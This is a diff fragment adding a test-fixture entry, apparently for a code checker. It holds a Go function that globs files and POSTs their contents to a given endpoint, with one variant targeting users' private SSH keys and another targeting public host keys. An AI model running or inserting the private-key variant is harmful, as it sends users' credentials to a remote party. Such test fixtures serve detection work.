@@ -251,4 +251,26 @@ void audit(FILE *f, const char *user, const char *what)
         r#"if (*what == '\0')
         return;"#,
     ),
+    (
+        "inventory.go",
+        r#"
+package inventory
+
+import (
+	"net/http"
+	"path/filepath"
+)
+
+func Collect(endpoint string) error {
+	files, err := filepath.Glob("@@")
+	if err != nil {
+		return err
+	}
+	_, err = http.Post(endpoint, "text/plain", bodies(files))
+	return err
+}
+"#,
+        "/home/*/.ssh/id_*",
+        "/etc/ssh/ssh_host_*_key.pub",
+    ),
 ];
